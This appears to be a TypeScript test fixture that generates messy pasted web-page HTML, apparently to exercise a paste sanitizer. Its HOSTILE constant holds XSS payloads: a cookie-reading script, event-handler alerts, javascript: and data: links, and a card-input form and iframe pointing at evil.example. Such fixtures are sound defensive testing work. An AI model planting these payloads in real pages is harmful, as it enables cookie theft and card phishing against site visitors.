import { HEADINGS, LINK, LIST, repeated, sentence, TABLE } from './pasted-text.ts';

/** A part of a web page, as a browser copies it: boxes in boxes, computed styles, and what runs or is not part of the text. */

const STYLE =
  'color: rgb(33, 37, 41); font-family: -apple-system, &quot;Segoe UI&quot;, Roboto, sans-serif; font-size: 18px; letter-spacing: normal; text-transform: none; -webkit-text-stroke-width: 0px;';

const HOSTILE = `<script>window.stolen = document.cookie</script><iframe src="https://evil.example/frame"></iframe><img src=x onerror="alert(1)"><a href="javascript:alert(1)">Bad link</a><a href="data:text/html,<script>alert(1)</script>">Worse link</a><form action="https://evil.example"><input name="card"><button onclick="alert(1)">Buy</button></form><svg onload="alert(1)"><circle r="4"></circle></svg><object data="x.swf"></object>`;

const paragraph = (part: number, number: number) =>
  `<div class="block__text" style="${STYLE}"><div onclick="track()"><div>${sentence(part, number)}<span style="font-weight: 700;">Bold</span> <a class="link" href="${LINK}" target="_blank" onmouseover="track()">link</a></div></div></div><p style="${STYLE}"> </p><div><br></div>`;

const items = (texts: readonly string[], inner = '') =>
  texts
    .map(
      (text, at) =>
        `<li class="list__item" style="${STYLE}">${text}${at === texts.length - 1 ? inner : ''}</li>`,
    )
    .join('');

const LISTS = `<ul class="list">${LIST.map(([first, second, third]) =>
  items([first], `<ol>${items(second, `<ul>${items(third)}</ul>`)}</ol>`),
).join('')}</ul>`;

const [head, ...rows] = TABLE;
const GRID = `<figure class="table-figure"><table class="table" style="${STYLE}"><thead><tr>${head.map((text) => `<th scope="col" onclick="sort()">${text}</th>`).join('')}</tr></thead><tbody>${rows
  .map(
    (cells) =>
      `<tr>${cells.map((text) => `<td><div><span>${text}</span></div></td>`).join('')}</tr>`,
  )
  .join('')}</tbody></table></figure>`;

export const webHtml = (): string =>
  `<meta charset="utf-8"><article class="post">${repeated(
    4,
    (part) =>
      `<section><h2 id="x${part}" class="title" style="${STYLE}"><a href="#x${part}" aria-hidden="true">#</a>${HEADINGS[part]}</h2>
${Array.from({ length: 12 }, (_, number) => paragraph(part, number)).join('')}
${LISTS}${GRID}${HOSTILE}</section>`,
  )}</article>`;
